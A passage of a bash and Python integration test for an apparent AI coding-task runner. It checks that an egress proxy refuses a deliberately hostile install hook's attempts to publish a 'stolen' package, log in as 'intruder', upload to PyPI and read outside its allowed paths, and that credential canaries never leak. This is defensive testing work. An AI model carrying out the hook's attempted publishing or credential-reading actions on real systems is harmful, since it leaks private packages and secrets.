    [[ $br == kiwi-install* ]] && iptables -S KIWI-EGRESS | grep >/dev/null -F -- \
      '-i kiwi-install+ -p tcp -m comment --comment "kiwi-egress: install bridge: only through the egress proxy" -j REJECT' ||
      fail "worker $name: no KIWI-EGRESS rule for its install bridge '$br': $(iptables -S KIWI-EGRESS 2>&1 | grep -v NFLOG)"
    log "worker $name: the host's egress rules applied for $br (KIWI_EGRESS_APPLY=true)"
  fi
}
worker_stop() {
  local pid
  pid=$(eval echo "\$WORKER_PID_$1")
  kill "$pid" 2>/dev/null || true
  for _ in $(seq 1 120); do kill -0 "$pid" 2>/dev/null || return 0; sleep 0.25; done
  fail "worker $1 did not stop"
}
# submit_task REPO TEST: the task id; collect NAME TID: waited for, into
# $TMP/NAME-result.json and $TMP/NAME-progress.jsonl
submit_task() {
  kiwi_cli submit --repo "$TMP/repo-$1" --ref main --test "$2" --goal "Make the tests pass." --provider anthropic \
    --model claude-sonnet-4-5-20250929 --base-url "http://127.0.0.1:9/"
}
# load(NAME) in the checks below: NAME's result and its progress events
cat >"$TMP/taskres.py" <<'PY'
import json
def load(name, tmp=__import__("os").path.dirname(__file__)):
    r = json.load(open("%s/%s-result.json" % (tmp, name)))
    r = r.get("result", r)
    evs = [json.loads(l) for l in open("%s/%s-progress.jsonl" % (tmp, name)) if l.strip()]
    return r, [e.get("event", e) for e in evs]
PY
collect() { # NAME TID
  kiwi_cli wait "$2" --timeout 300 >"$TMP/$1-result.json" || true
  kiwi_cli tail progress --task "$2" >"$TMP/$1-progress.jsonl" 2>/dev/null || true
}

# 1 and 2: tenant A
registry_worker a "$C/a"
declare -A TID
declare -A TEST=([npm]="npm test" [pnpm]="pnpm test" [yarn]="yarn test" [pip]="$PIP_TEST" [uv]="$PIP_TEST" [hook]="npm test"
  [maven]="mvn -B test" [go]="go test ./..." [npmtoken]="npm test")
for t in maven go npm npmtoken pnpm yarn pip uv hook; do TID[$t]=$(submit_task "$t" "${TEST[$t]}"); done
TID[seen]=$(kiwi_cli submit --repo "$TMP/repo-seen" --ref main --test "npm test" --goal "Make the tests pass." \
  --provider anthropic --model claude-sonnet-4-5-20250929 --base-url "http://127.0.0.1:$PROVIDER_PORT/script/seen")
for t in maven go npm npmtoken pnpm yarn pip uv hook seen; do collect "$t" "${TID[$t]}"; done
python3 - "$TMP/provider-requests.jsonl" "$RUN_ID" <<'PY' || fail "the model's prompt: $(tail -c 600 "$TMP/provider.log")"
import json, sys
reqs = [json.loads(l) for l in open(sys.argv[1]) if l.strip()]
seen = [r for r in reqs if "kiwi-model-sees-" + sys.argv[2] in json.dumps(r)]
assert seen, "no request to the model carries the failing tests' output (%d request(s))" % len(reqs)
text = json.dumps(seen[0])
i = text.find("kiwi-model-sees-")
assert "NPM_TOKEN=" in text and "hook tried" in text, "the prompt lacks the environment or the hook's record: %s" % text[i:i + 3000]
print("the model's prompt: %d request(s), %d bytes, with the tests' environment and the hook's record" % (len(reqs), len(text)))
PY
python3 - "$TMP" <<'PY' || fail "tenant A's installs: $(tail -n 30 "$TMP/worker-a.log")"
import json, sys
tmp = sys.argv[1]
sys.path.insert(0, tmp)
from taskres import load
want_host = {"npm": "npm.acme.test", "pnpm": "npm.acme.test", "yarn": "npm.acme.test", "pip": "pypi.acme.test",
             "uv": "pypi.acme.test", "hook": "npm.acme.test", "maven": "maven.acme.test", "go": "go.acme.test",
             "npmtoken": "npm.acme.test"}
for name, host in want_host.items():
    r, evs = load(name)
    inst = [e for e in evs if e["kind"] == "install"]
    # step 0 passed: the tests pass at the ref, with the private package
    assert r["status"] == "not_fixed" and "tests already pass" in r["reason"], (name, r["status"], r.get("reason"))
    assert inst and not inst[-1]["payload"].get("cached"), (name, [e["payload"] for e in inst])
    h = inst[-1]["payload"]["egress"]["hosts"].get(host)
    assert h and h["requests"] >= 1 and h["bytes"] > 0, (name, inst[-1]["payload"]["egress"])
    print("%s: %s, install %s: %s %s" % (name, r["status"], inst[-1]["payload"].get("command"), host, json.dumps(h)))
# the private index gives no upload times: resolving as of the commit's time
# is refused, and the install runs again as of now
for name in ("pip", "uv"):
    r, evs = load(name)
    again = [e["payload"] for e in evs if e["kind"] == "warning" and "no upload times" in e["payload"]["warning"]]
    print("%s: %d install(s) again as of now" % (name, len(again)))
    if name == "pip":
        assert len(again) == 1 and "upload-time metadata" in again[0]["reason"], (name, again)
r, evs = load("hook")
den = [e["payload"] for e in evs if e["kind"] == "egress_denied"]
methods = sorted((d.get("method"), d["host"]) for d in den)
assert ("PUT", "npm.acme.test") in methods and ("POST", "pypi.acme.test") in methods, methods
for d in den:
    if d.get("method"):
        assert "Phase A may only read" in d["rule"] and d["allow_with"] == "nothing", d
print("hook: egress_denied %s" % methods)
print("hook: a refused publish: %s" % json.dumps([d for d in den if d.get("method") == "PUT"][0], sort_keys=True))
PY
# each install's fetch manifest: in its snapshot, as the event says, with
# the private file's SHA-256 as its registry holds it
python3 - "$TMP" "$TMP/state-a/snapshots" "$LIB_SHA256" "$WHL_SHA256" "$JAR_SHA256" "$ZIP_SHA256" <<'PY' || fail "the fetch manifests"
import hashlib, json, sys
tmp, snaps, lib, whl, jar, gozip = sys.argv[1:7]
sys.path.insert(0, tmp)
from taskres import load
want = {"npm": ("npm.acme.test", "secret-lib-1.0.0.tgz", lib), "pnpm": ("npm.acme.test", "secret-lib-1.0.0.tgz", lib),
        "yarn": ("npm.acme.test", "secret-lib-1.0.0.tgz", lib), "pip": ("pypi.acme.test", "acme_secret-1.0.0-py3-none-any.whl", whl),
        "uv": ("pypi.acme.test", "acme_secret-1.0.0-py3-none-any.whl", whl), "maven": ("cdn.acme.test", "/blob/" + jar, jar),
        "go": ("go.acme.test", "/mod/go.acme.test/secret/@v/v1.0.0.zip", gozip)}
for name, (host, path, sha) in want.items():
    r, evs = load(name)
    p = [e for e in evs if e["kind"] == "install"][-1]["payload"]
    f = p["fetched"]
    assert f.get("manifest") == "fetched.json" and len(f.get("sha256") or "") == 64 and f["files"] >= 1, (name, f)
    raw = open("%s/%s/fetched.json" % (snaps, p["key"]), "rb").read()
    assert hashlib.sha256(raw).hexdigest() == f["sha256"], (name, "fetched.json is not what the event names")
    m = json.loads(raw)
    assert m["requests"] == f["requests"] and m["files"] == f["files"] and len(m["fetched"]) == m["requests"], (name, f)
    hit = [e for e in m["fetched"] if e.get("host") == host and e["path"].split("?")[0].endswith(path) and e["status"] == 200]
    assert hit and all(e.get("sha256") == sha for e in hit), (name, host, path, sha, [e for e in m["fetched"] if e.get("host") == host])
    print("%s: fetched %s" % (name, json.dumps(f, sort_keys=True)))
    if name == "npm":
        print("npm: its manifest's entry for the private package: %s" % json.dumps(hit[0], sort_keys=True))
PY
# from outside: Squid refused the writes before any connection; the
# registries saw every read with tenant A's user and no write at all
plog="$TMP/state-a/egress-proxy/$RUN_ID-a/access.log"
# (Squid's log %-encodes the URL's own %: @acme%252fstolen)
grep -Eq ' TCP_DENIED 403 PUT npm.acme.test https://npm.acme.test/@acme%(25)?2fstolen ' "$plog" ||
  fail "the hook's publish is not refused in the proxy's log: $(grep -F acme "$plog" | tail -n 20)"
grep -Eq ' TCP_DENIED 403 PUT npm.acme.test https://npm.acme.test/-/user/org.couchdb.user:intruder ' "$plog" ||
  fail "the hook's login is not refused in the proxy's log"
grep -Eq ' TCP_DENIED 403 POST pypi.acme.test https://pypi.acme.test/ ' "$plog" || fail "the hook's upload is not refused"
python3 - "$V/requests.log" "$P/requests.log" "$M/requests.log" "$G/requests.log" "$S/requests.log" <<'PY' || fail "what the registries saw"
import json, sys
npm = [json.loads(l) for l in open(sys.argv[1]) if l.strip()]
# Verdaccio logs each request when it arrives ("req") and its answer
# ("request", "user", "status")
urls = [l["req"]["url"] for l in npm if "req" in l]
answers = [(l["request"]["method"], l["request"]["url"], l["status"], l.get("user")) for l in npm if "request" in l]
assert not [u for u in urls if "stolen" in u or "intruder" in u], urls
assert "intruder" not in {u for m, p, s, u in answers}, answers
writes = sorted({(m, p, u) for m, p, s, u in answers if m not in ("GET", "HEAD")})
# the test's own two publishes are the only writes
assert writes == [("PUT", "/@acme%2fhook", "acme-npm"), ("PUT", "/@acme%2fsecret-lib", "acme-npm")], writes
reads = [p for m, p, s, u in answers if m == "GET" and s == 200 and u == "acme-npm" and p.endswith(".tgz")]
assert any("secret-lib-1.0.0.tgz" in p for p in reads) and any("hook-1.0.0.tgz" in p for p in reads), answers
users = sorted({str(u) for m, p, s, u in answers})
pypi = [json.loads(l) for l in open(sys.argv[2]) if l.strip()]
got = [(l["method"], l["path"], l["status"], l["user"]) for l in pypi]
assert any(p.startswith("/packages/acme_secret") and s == 200 and u == "acme-pypi" for m, p, s, u in got), got
assert all(m in ("GET", "HEAD") for m, p, s, u in got), got
print("Verdaccio: %d request(s), users %s; tarballs read as acme-npm: %d; writes: %s" % (len(urls), users, len(reads), writes))
print("pypiserver: %s" % got)
mvn = [json.loads(l) for l in open(sys.argv[3]) if l.strip()]
got = sorted({(l["method"], l["path"], l["status"], l["user"]) for l in mvn})
# the jar: a redirect to the storage, which served it with no user (no
# credential went there) and nothing else
assert ("GET", "/repo/com/acme/secret/1.0.0/secret-1.0.0.jar", 302, "acme-maven") in got, got
assert all(m in ("GET", "HEAD") and s in (200, 302) and u == "acme-maven" for m, p, s, u in got if p.startswith("/repo/")), got
# the hook's two reads outside /repo: no user reached the registry with them
other = [x for x in got if x[1].startswith("/other/")]
assert other == [("GET", "/other/secret.txt", 401, None)], other
cdn = [json.loads(l) for l in open(sys.argv[5]) if l.strip()]
cgot = sorted({(l["method"], l["path"].split("?")[0], l["status"], l["user"]) for l in cdn if l["path"] != "/"})
assert len(cgot) == 1 and cgot[0][0] == "GET" and cgot[0][1].startswith("/blob/") and cgot[0][2:] == (200, None), cgot
print("the Maven repository's storage (derived from its redirect): %s" % cgot)
print("Maven repository: %s" % [x for x in got if x[1] != "/"])
gop = [json.loads(l) for l in open(sys.argv[4]) if l.strip()]
got = sorted({(l["method"], l["path"], l["status"], l["user"]) for l in gop})
assert ("GET", "/mod/go.acme.test/secret/@v/v1.0.0.zip", 200, "acme-go") in got, got
assert all(m in ("GET", "HEAD") and u == "acme-go" for m, p, s, u in got if p != "/"), got
print("Go module proxy: %s" % [x for x in got if x[1] != "/"])
PY
worker_stop a
# the hostile script's record, from the snapshot (checked from outside)
seen=$(find "$TMP/state-a" -name '*.tar' -print0 | xargs -0 -r grep -la '"tried"' | head -n 1)
[ -n "$seen" ] || fail "the hook's record is in no snapshot of worker a"
python3 - "$seen" <<'PY' || fail "what the hook saw"
import json, sys, tarfile
with tarfile.open(sys.argv[1]) as t:
    m = [m for m in t.getmembers() if m.name.endswith("@acme/hook/seen.json")]
    assert m, "no seen.json"
    seen = json.load(t.extractfile(m[0]))
tried = seen["tried"]
# writes: Squid's 403; a read with its own Authorization: 200, as tenant A
# (its own would have been a 401)
# outside the Maven prefix: no credential is added (the file is there: with
# one it would be a 200), and its own is dropped
assert tried == {"publish": "403", "login": "403", "own_auth": "200", "pypi_upload": "403", "outside_prefix": "401",
                 "outside_prefix_own_auth": "401"}, tried
names = sorted(k for k in seen["env"] if "PROXY" in k.upper() or "CA" in k.upper() or "AUTH" in k.upper() or "TOKEN" in k.upper())
print("the hook, from its record in the snapshot: %s; %d file(s) read; its environment's proxy, CA and auth names: %s" % (
    tried, len(seen["files"]), names))
PY

# 3. fleet tenancy, each worker another host: a2 (tenant A's credential in
# another file), n (nothing declared), b (tenant B)
registry_worker a2 "$C/a2"
collect a2-npm "$(submit_task npm "npm test")"
worker_stop a2
registry_worker n ""
collect n-npm "$(submit_task npm "npm test")"
worker_stop n
registry_worker b "$C/b"
collect b-npm "$(submit_task npm "npm test")"
worker_stop b
python3 - "$TMP" <<'PY' || fail "tenancy"
import json, sys
tmp = sys.argv[1]
sys.path.insert(0, tmp)
from taskres import load
def cached(evs):
    inst = [e for e in evs if e["kind"] == "install"]
    return bool(inst and inst[-1]["payload"].get("cached")), inst
r, evs = load("a2-npm")
c, inst = cached(evs)
assert r["status"] == "not_fixed" and "tests already pass" in r["reason"] and c, (
    "a2", r["status"], r.get("reason"), [e["payload"] for e in inst])
print("a2 (tenant A, another host): %s, snapshot laid from the store (%s)" % (r["status"], inst[-1]["payload"].get("cached")))
key = inst[-1]["payload"]["key"]
a = open("%s/state-a/snapshots/%s/fetched.json" % (tmp, key), "rb").read()
a2 = open("%s/state-a2/snapshots/%s/fetched.json" % (tmp, key), "rb").read()
assert a == a2, "a2's fetch manifest from the store is not a's"
print("a2: the fetch manifest came with the snapshot from the store (%d bytes, the same as a's)" % len(a2))
r, evs = load("n-npm")
c, inst = cached(evs)
assert r["status"] == "install_failed" and not c, ("n", r["status"], r.get("reason"))
assert "the egress proxy denied npm.acme.test:443" in r["reason"], r["reason"]
assert "or KIWI_PRIVATE_REGISTRIES=npm.acme.test=@FILE if it is a private registry" in r["reason"], r["reason"]
print("n (nothing declared): %s: %s" % (r["status"], r["reason"][:500]))
r, evs = load("b-npm")
c, inst = cached(evs)
assert r["status"] == "install_failed" and not c, ("b", r["status"], r.get("reason"))
print("b (tenant B): %s: %s" % (r["status"], r["reason"][:300]))
PY
# tenant B's reads reached the registry as other-npm, and were refused there
grep -q '"other-npm"' "$V/requests.log" || fail "tenant B's user never reached Verdaccio"

# 4. the canaries, from outside
printf '%s\n' "${CANARIES[@]}" >"$TMP/canaries"
search() { # WHAT FILE...: fail when a canary is in one of the files
  local what=$1; shift
  if printf '%s\0' "$@" | xargs -0 -r grep -laF -f "$TMP/canaries" >"$TMP/canary-hits" 2>/dev/null; then
    fail "a canary is in $what: $(head -n 5 "$TMP/canary-hits")"
  fi
  return 0
}
confs=()
# the squid.conf of each worker with a declaration holds its credential:
# proxy's, 600
for s in a a2 b; do
  for f in "$TMP/state-$s"/egress-proxy/*/squid.conf; do
    [ -f "$f" ] || continue
    confs+=("$f")
    [ "$(stat -c '%U %a' "$f")" = "proxy 600" ] || fail "$f is $(stat -c '%U %a' "$f"), not proxy's and 600"
  done
done
[ "${#confs[@]}" = 3 ] || fail "${#confs[@]} squid.conf of workers with a declaration, not 3"
# the search itself finds them where they are
printf '%s\0' "${confs[@]}" | xargs -0 grep -laF -f "$TMP/canaries" >/dev/null ||
  fail "the canary search finds nothing even in the squid.conf that hold them"
grep -qF "$(basic acme-npm "$PW_A_NPM")" "$TMP/state-a"/egress-proxy/*/squid.conf || fail "tenant A's squid.conf lacks its credential"
mapfile -t state_files < <(find "$TMP"/state-* -type f ! -name squid.conf)
files=${#state_files[@]}
search "a worker's state directory" "${state_files[@]}"
store_dir="${KIWI_STATE_DIR:-/var/lib/kiwi}/registry/data"
blobs=0
if [ -d "$store_dir" ]; then
  mapfile -t new_blobs < <(find "$store_dir" -type f -newer "$TMP/start")
  blobs=${#new_blobs[@]}
  [ "$blobs" = 0 ] || search "the store's blobs" "${new_blobs[@]}"
fi
for k in tasks progress results heartbeats dlq; do kcat_raw "$k" "$TMP/topic-$k.bin"; done
search "a topic" "$TMP"/topic-*.bin
search "a worker's log" "$TMP"/worker-*.log
search "the model's prompts" "$TMP/provider-requests.jsonl"
procs=0
for p in /proc/[0-9]*; do
  [ -r "$p/environ" ] || continue
  procs=$((procs + 1))
  if cat "$p/environ" "$p/cmdline" 2>/dev/null | tr '\0' '\n' | grep >/dev/null -aF -f "$TMP/canaries"; then
    fail "a canary is in the environment or command line of $p ($(tr '\0' ' ' <"$p/cmdline"))"
  fi
done
log "canaries (${#CANARIES[@]}) in none of: $files state file(s) of 4 workers (snapshots, workspaces, logs), $blobs store file(s), 5 topics, the model's prompts ($(wc -c <"$TMP/provider-requests.jsonl") bytes), the workers' logs, $procs processes' environment and command line; in ${#confs[@]} squid.conf (proxy's, 600) alone"
log "PASS"
